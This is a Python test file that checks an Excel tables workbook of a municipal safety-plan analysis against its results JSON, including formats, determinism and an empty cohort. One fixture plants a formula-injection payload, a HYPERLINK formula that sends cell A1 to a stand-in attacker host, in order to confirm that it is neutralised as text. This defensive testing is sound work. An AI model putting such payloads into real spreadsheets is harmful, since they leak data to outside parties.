"""tabellen.xlsx (ivp.report.tables): read back and compared cell by cell with results.json, number formats,
determinism, a cohort without plans, and formula injection through a plan title.

Results come from the seven-plan input of test_analysis.py, through the same parts the notebooks write."""

from __future__ import annotations

import json

import openpyxl
import pytest
from test_analysis import PLANS, SPEERPUNTEN, ccv_like_input, cleaned_from, plan, priority_rows
from test_results import write_parts

from ivp.analysis.measures import select_scope
from ivp.report import tables
from ivp.report.text import is_indicatief
from ivp.running import job
from ivp.running.spreadsheet import restore_cell

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
PROVENANCE = {"git": {"commit": "abc123", "dirty": False}, "versies": {"ivp": "0.1.0"},
              "bestanden": {"invoer": {"plans.csv": "a" * 64, "speerpunten.csv": "b" * 64}},
              "parameters": {"cohort": "nationaal", "peiljaar": "alle", "seed": 1},
              "uitgevoerd_op": "2026-01-01T00:00:00Z"}


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    plans = [*PLANS[:-1], {**plan("a7", "Alblasserdam", "2023", ""), "titel": HOSTILE}]
    return cleaned_from(tmp_path_factory.mktemp("raw"), plans, priority_rows(SPEERPUNTEN))


@pytest.fixture(scope="module")
def national(data, tmp_path_factory) -> dict:
    return write_parts(select_scope(data, "nationaal", "alle"), tmp_path_factory.mktemp("nationaal"))


def read_back(results: dict, prov: dict | None, path) -> dict[str, list[dict]]:
    """Write the workbook and read every sheet back as a list of {column: cell}."""
    tables.write_tables(results, prov, path)
    book = openpyxl.load_workbook(path)
    sheets = {}
    for ws in book.worksheets:
        header = [c.value for c in ws[1]]
        sheets[ws.title] = [dict(zip(header, row)) for row in ws.iter_rows(min_row=2)]
    return sheets


def values(rows: list[dict]) -> list[dict]:
    """Cell values with the quote that neutralised a formula taken off again (``restore_cell``)."""
    return [{k: restore_cell(c.value) for k, c in row.items()} for row in rows]


def pair(interval) -> list:
    return list(interval) if interval else [None, None]


def by_key(rows, key):
    return {row[key]: row for row in values(rows)}


def measure(rows) -> dict:
    """A measures sheet as {maat: (aantal, aandeel, [ci95_laag, ci95_hoog], indicatief)}."""
    return {r["maat"].value: (r["aantal"].value, r["aandeel"].value, [r["ci95_laag"].value, r["ci95_hoog"].value],
                              r["indicatief"].value) for r in rows}


def test_every_sheet_equals_results_json(national, tmp_path):
    r = national
    book = read_back(r, PROVENANCE, tmp_path / job.TABLES_FILE)
    assert list(book) == ["Toelichting", "steekproef", "plannen", "themas", "categorieen", "gevoeligheid", "niveau",
                          "gezamenlijk", "gezamenlijk_omvang", "gezamenlijk_regios", "grensoverschrijdend",
                          "participatie", "participatievormen", "landelijke_prioriteiten", "landelijk_per_niveau",
                          "ccv2020", "gemeenten", "gemeenten_weging", "representativiteit"]
    flag = is_indicatief  # the report's badge: the sheets must agree with it

    sample = measure(book["steekproef"])
    assert sample["plannen in de steekproef"][0] == r["n_plans"] == 7
    assert sample["speerpunten"][0] == r["n_priorities"]
    assert sample["gemeenten met een plan in de steekproef"][0] == r["n_municipalities"]
    cohort_row = sample["gemeenten in het cohort; aandeel: dekking"]
    assert cohort_row[:2] == (r["sample"]["cohort_size"], r["sample"]["coverage"])
    for level, n in r["sample"]["zekerheid"].items():
        assert sample[f"zekerheid: {level}"][0] == n
    for kind, n in r["sample"]["bron_type"].items():
        assert sample[f"soort bron: {kind}"][0] == n
    assert {v[3] for v in sample.values()} == {flag(r, "sample")}

    assert values(book["plannen"]) == [{k: p[k] for k in tables.PLAN_FIELDS} for p in r["plans"]]

    themes = by_key(book["themas"], "code")
    assert list(themes) == list(r["themes"])
    for code, t in r["themes"].items():
        row = themes[code]
        assert (row["thema"], row["speerpunten"], row["aandeel"], row["als_tweede_thema"], row["plannen"],
                row["aandeel_plannen"]) == (t["label"], t["n"], t["share"], t["n_thema_2"], t["n_plans"],
                                             t["plan_share"])
        assert [row["ci95_laag"], row["ci95_hoog"]] == pair(t["ci95"])
        assert [row["ci95_cluster_laag"], row["ci95_cluster_hoog"]] == pair(t["ci95_cluster"])
        assert [row["ci95_wilson_laag"], row["ci95_wilson_hoog"]] == pair(t["ci95_wilson"])
        assert [row["plannen_ci95_laag"], row["plannen_ci95_hoog"]] == pair(t["plan_ci95"])
        assert [row["plannen_ci95_wilson_laag"], row["plannen_ci95_wilson_hoog"]] == pair(t["plan_ci95_wilson"])
        assert (row["ci95_methode"], row["plannen_ci95_methode"], row["indicatief"]) == (
            t["ci95_methode"], t["plan_ci95_methode"], flag(r, "themes"))

    categories = by_key(book["categorieen"], "categorie")
    assert list(categories) == list(r["categories"])
    for label, c in r["categories"].items():
        row = categories[label]
        assert (row["themas"], row["speerpunten"], row["aandeel"], row["plannen"], row["aandeel_plannen"]) == (
            c["themes"], c["n"], c["share"], c["n_plans"], c["plan_share"])
        assert [row["ci95_laag"], row["ci95_hoog"], row["ci95_cluster_laag"], row["ci95_cluster_hoog"],
                row["ci95_wilson_laag"], row["ci95_wilson_hoog"], row["plannen_ci95_laag"], row["plannen_ci95_hoog"],
                row["plannen_ci95_wilson_laag"], row["plannen_ci95_wilson_hoog"], row["ci95_methode"]] == [
            *pair(c["ci95"]), *pair(c["ci95_cluster"]), *pair(c["ci95_wilson"]), *pair(c["plan_ci95"]),
            *pair(c["plan_ci95_wilson"]), c["ci95_methode"]]

    assert [(x["indeling"], x["omschrijving"], x["categorie"], x["aandeel"], x["standaard"])
            for x in values(book["gevoeligheid"])] == [
        (name, r["rollups"][name], cat, share, name == r["default_rollup"])
        for name, shares in r["category_sensitivity"].items() for cat, share in shares.items()]

    assert [(x["niveau"], x["speerpunten"], x["aandeel"], [x["ci95_laag"], x["ci95_hoog"]], x["ci95_methode"],
             [x["ci95_wilson_laag"], x["ci95_wilson_hoog"]]) for x in values(book["niveau"])] == [
        (k, v["n"], v["share"], pair(v["ci95"]), v["ci95_methode"], pair(v["ci95_wilson"]))
        for k, v in r["niveau"].items()]

    joint, jp = measure(book["gezamenlijk"]), r["joint_plans"]
    assert joint["gezamenlijke plannen (twee of meer gemeenten)"][:3] == (jp["n"], jp["share"], pair(jp["ci95"]))
    assert joint["gemeenten met een gezamenlijk plan"][:2] == (jp["municipalities_in_joint_plans"],
                                                               jp["municipalities_share"])
    assert joint["plannen"][0] == jp["n_plans"] and joint["gemeenten in de steekproef"][0] == jp["n_municipalities"]
    assert joint["gemeenten per gezamenlijk plan: gemiddelde"][0] == jp["size_mean"]
    assert joint["gemeenten per gezamenlijk plan: mediaan"][0] == jp["size_median"]
    assert joint["gemeenten per gezamenlijk plan: grootste"][0] == jp["size_max"]
    assert [(x["gemeenten_in_plan"], x["plannen"]) for x in values(book["gezamenlijk_omvang"])] == [
        (int(k), v) for k, v in jp["sizes"].items()]

    regions = jp["regions"]
    assert [(x["indeling"], x["binnen_een_regio"], x["over_de_grens"], x["aandeel_binnen"],
             [x["ci95_wilson_laag"], x["ci95_wilson_hoog"]], x["beoordeelbaar"])
            for x in values(book["gezamenlijk_regios"])] == [
        (k, regions[k]["within"], regions[k]["across"], regions[k]["share_within"], pair(regions[k]["ci95_wilson"]),
         regions["n_assessable"]) for k in ("veiligheidsregio", "regionale_eenheid", "provincie")]
    crossing = [(k, p["plan_id"], p["titel"], "; ".join(p["regions"]))
                for k in ("veiligheidsregio", "regionale_eenheid", "provincie") for p in regions[k]["crossing"]]
    crossing += [("partners onbekend", p, None, None) for p in regions["partners_unknown"]]
    assert [tuple(x.values()) for x in values(book["grensoverschrijdend"])] == crossing

    part, pp = measure(book["participatie"]), r["participation"]
    assert part["inbreng van inwoners vermeld (ondergrens over alle plannen)"][:3] == (
        pp["n_yes"], pp["share_at_least"], pair(pp["ci95_at_least"]))
    assert (part["geen inbreng van inwoners"][0], part["onbekend"][0], part["plannen"][0]) == (
        pp["n_no"], pp["n_unknown"], pp["n_plans"])
    assert part["alleen plannen waarvan het bekend is"][:2] == (pp["n_known"], pp["share_among_known"])
    assert {x["vorm"]: x["plannen"] for x in values(book["participatievormen"])} == pp["forms"]

    assert measure(book["landelijke_prioriteiten"]) == {  # peiljaar alle: no agenda in force, only counts
        "speerpunten": (r["national_priorities"]["n_priorities"], None, [None, None], True),
        "plannen": (r["national_priorities"]["n_plans"], None, [None, None], True)}

    ccv = by_key(book["ccv2020"], "sleutel")
    assert list(ccv) == list(r["ccv2020"])
    for key, c in r["ccv2020"].items():
        row = ccv[key]
        assert (row["maat"], row["ccv_2020"], row["deze_analyse"], row["interval"], row["binnen_bi"]) == (
            c["label"], c["published"], c["ours"], c["interval"], c["inside"])
        assert [row["ci95_laag"], row["ci95_hoog"]] == pair(c["ci95"])
        assert [row["ci95_wilson_laag"], row["ci95_wilson_hoog"], row["binnen_bi_wilson"]] == [
            *pair(c.get("ci95_wilson")), c.get("inside_wilson")]

    m, w = r["municipalities"], r["municipalities"]["weighted"]
    expected = [("thema", k, v, w["themes"][k]) for k, v in m["themes"].items()]
    expected += [("categorie", k, v, w["categories"][k]) for k, v in m["categories"].items()]
    expected += [("gezamenlijk plan", None, m["joint_share"], w["joint_share"]),
                 ("burgerparticipatie", None, m["participation_at_least"], w["participation_at_least"])]
    assert [tuple(x.values()) for x in values(book["gemeenten"])] == [
        (kind, key, v["n"], v["n_with"], v["share_with"], *pair(v["ci95"]), wv["share_with"], *pair(wv["ci95"]),
         flag(r, "municipalities")) for kind, key, v, wv in expected]
    assert [tuple(x.values()) for x in values(book["gemeenten_weging"])] == [
        (k, v["n_covered"], v["n_population"], v["weight"], v["weight_used"]) for k, v in w["strata"].items()]
    rep = r["representativeness"]
    assert [tuple(x.values()) for x in values(book["representativiteit"])] == [
        (kind, group, v["n_gemeenten"], v["n_gedekt"], v["dekking"], v["aandeel_gedekt"], v["aandeel_populatie"])
        for kind in ("cohort", "provincie", "veiligheidsregio") for group, v in rep[kind].items()]


# the figure whose small-number flag each sheet's indicatief column shows (ivp.report.text.is_indicatief)
FLAGGED = {"steekproef": "sample", "themas": "themes", "categorieen": "categories", "gevoeligheid": "categories",
           "niveau": "niveau", "gezamenlijk_omvang": "joint_plans.sizes", "gezamenlijk_regios": "joint_plans",
           "participatievormen": "participation.forms", "landelijk_per_niveau": "national_priorities",
           "gemeenten": "municipalities"}


def test_the_indicatief_column_is_the_reports_badge_figure_by_figure(tmp_path):
    # 127 plans, none joint: the sample is not indicatief, the sizes of joint plans are
    results = write_parts(select_scope(ccv_like_input(tmp_path / "raw"), "nationaal", "2020"), tmp_path / "job")
    assert not is_indicatief(results, "sample") and is_indicatief(results, "joint_plans.sizes")
    book = read_back(results, None, tmp_path / job.TABLES_FILE)
    for sheet, figure in FLAGGED.items():
        assert {row["indicatief"].value for row in book[sheet]} <= {is_indicatief(results, figure)}, sheet
    assert {row["indicatief"].value for row in book["themas"]} == {False}
    joint = measure(book["gezamenlijk"])
    assert joint["gezamenlijke plannen (twee of meer gemeenten)"][3] is is_indicatief(results, "joint_plans")
    assert joint["plannen"][3] is False


@pytest.mark.parametrize("peiljaar", ["2020", "2024"])
def test_the_national_priorities_sheets_follow_the_agenda_in_force_with_its_sensitivity(data, tmp_path, peiljaar):
    r = write_parts(select_scope(data, "nationaal", peiljaar), tmp_path / "job")
    nat = r["national_priorities"]
    book = read_back(r, None, tmp_path / job.TABLES_FILE)
    agenda, flag = measure(book["landelijke_prioriteiten"]), is_indicatief(r, "national_priorities")

    def rows_of(entry, prefix=""):
        rows = {f"{prefix}speerpunten die aansluiten": (entry["n"], entry["priority_share"], pair(entry["ci95"]), flag),
                f"{prefix}idem, interval als speerpunten onafhankelijk waren (Wilson)":
                    (None, None, pair(entry["ci95_wilson"]), flag),
                f"{prefix}idem, clusterbootstrap": (None, None, pair(entry["ci95_cluster"]), flag),
                f"{prefix}plannen met ten minste één zo'n speerpunt":
                    (entry["n_plans_with"], entry["plan_share"], pair(entry["plan_ci95"]), flag)}
        return {k: v for k, v in rows.items() if v[:2] != (None, None) or v[2] != [None, None]}

    expected = {"speerpunten": (nat["n_priorities"], None, [None, None], flag),
                "plannen": (nat["n_plans"], None, [None, None], flag), **rows_of(nat),
                **{f"waarvan thema {code}": (n, None, [None, None], flag) for code, n in nat["by_theme"].items()}}
    for extra in nat["sensitivity"].values():
        expected.update(rows_of(extra, f"gevoeligheid {extra['label']}: "))
    assert agenda == expected
    assert (peiljaar == "2024") == bool(nat["sensitivity"])  # 2023-2026 has INT as a sensitivity set
    kinds = [label.startswith("gevoeligheid") for label in agenda]
    assert kinds == sorted(kinds)  # the figures of the agenda first, its sensitivity sets after them
    assert [(x["niveau"], x["aansluitend"], x["speerpunten"], x["aandeel"])
            for x in values(book["landelijk_per_niveau"])] == [
        (k, v["n"], v["n_priorities"], v["share"]) for k, v in nat["by_niveau"].items()]
    text = {row["onderdeel"].value: row["toelichting"].value for row in book["Toelichting"]}
    assert text["Landelijke prioriteiten"] == nat["agenda_label"]
    for name, method in r["methode"]["interval_methods"].items():
        assert text[f"methode {name}"] == method


def test_shares_are_percentages_counts_integers_and_flags_booleans(national, tmp_path):
    book = read_back(national, PROVENANCE, tmp_path / job.TABLES_FILE)
    vwl = next(row for row in book["themas"] if row["code"].value == "VWL")
    assert vwl["aandeel"].number_format == "0.0%" and isinstance(vwl["aandeel"].value, float)
    assert vwl["ci95_laag"].number_format == vwl["ci95_hoog"].number_format == "0.0%"
    assert vwl["speerpunten"].number_format == "0" and type(vwl["speerpunten"].value) is int
    assert type(vwl["indicatief"].value) is bool and vwl["indicatief"].value is True  # 7 plans
    counts = next(row for row in book["ccv2020"] if row["sleutel"].value == "n_priorities")
    assert counts["ccv_2020"].number_format == "0" and counts["ccv_2020"].value == 381  # a count in a share column


def test_explanation_names_every_sheet_the_definitions_and_the_provenance(national, tmp_path):
    book = read_back(national, PROVENANCE, tmp_path / job.TABLES_FILE)
    text = {row["onderdeel"].value: row["toelichting"].value for row in book["Toelichting"]}
    assert job.report_title("alle", "nationaal") in text
    for sheet in list(book)[1:]:
        assert text[sheet], sheet
    assert "indicatief" in text and "minder dan 10 plannen" in text["indicatief"]
    assert "*_laag, *_hoog" in text
    assert text["git-commit"] == "abc123" and text["gewijzigd ten opzichte van de commit"] == "nee"
    assert text["sha256 invoer plans.csv"] == "a" * 64 and text["sha256 invoer speerpunten.csv"] == "b" * 64
    assert job.RESULTS_FILE in text["Bron"] and text["Bron CCV-cijfers"] == national["methode"]["ccv2020_source"]
    assert "2026-01-01" not in str(text)  # the run time would make every run's workbook differ


def test_same_input_gives_the_same_bytes(national, tmp_path):
    first = tables.write_tables(national, PROVENANCE, tmp_path / "een.xlsx").read_bytes()
    second = tables.write_tables(national, PROVENANCE, tmp_path / "twee.xlsx").read_bytes()
    assert first == second
    changed = {**national, "n_plans": national["n_plans"] + 1}
    assert tables.write_tables(changed, PROVENANCE, tmp_path / "drie.xlsx").read_bytes() != first


def test_cohort_without_plans_gives_every_sheet_with_headers_and_says_so(data, tmp_path):
    results = write_parts(select_scope(data, "overig", "2020"), tmp_path / "job")
    assert results["n_plans"] == 0
    book = read_back(results, None, tmp_path / job.TABLES_FILE)
    assert len(book) == 19
    assert measure(book["steekproef"])["plannen in de steekproef"][0] == 0
    assert book["plannen"] == [] and book["gezamenlijk_omvang"] == []
    themes = by_key(book["themas"], "code")
    assert themes["VWL"]["speerpunten"] == 0 and themes["VWL"]["aandeel"] is None
    assert themes["VWL"]["indicatief"] is True
    text = {row["onderdeel"].value: row["toelichting"].value for row in book["Toelichting"]}
    assert text["herkomst"] == f"onbekend: geen {job.PROVENANCE_FILE} (buiten ivp run gemaakt)"


def test_a_formula_in_a_plan_title_is_stored_as_text_with_a_quote(national, tmp_path):
    book = read_back(national, PROVENANCE, tmp_path / job.TABLES_FILE)
    titles = [row["titel"] for row in book["plannen"] if row["plan_id"].value == "a7"]
    assert len(titles) == 1
    assert titles[0].value == "'" + HOSTILE and titles[0].data_type == "s"
    workbook_xml = [c.value for ws in openpyxl.load_workbook(tmp_path / job.TABLES_FILE).worksheets
                    for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert workbook_xml == []  # no formula anywhere


def test_job_writes_its_tables_from_its_folder(national, tmp_path):
    from ivp.running.atomic import write_json

    write_json(tmp_path / job.RESULTS_FILE, national)
    write_json(tmp_path / job.PROVENANCE_FILE, PROVENANCE)
    path = tables.write_job_tables(tmp_path)
    assert path == tmp_path / job.TABLES_FILE
    written = json.loads((tmp_path / job.RESULTS_FILE).read_text(encoding="utf-8"))  # keys sorted, as jobs read it
    assert path.read_bytes() == tables.workbook_bytes(tables.workbook_sheets(written, PROVENANCE))
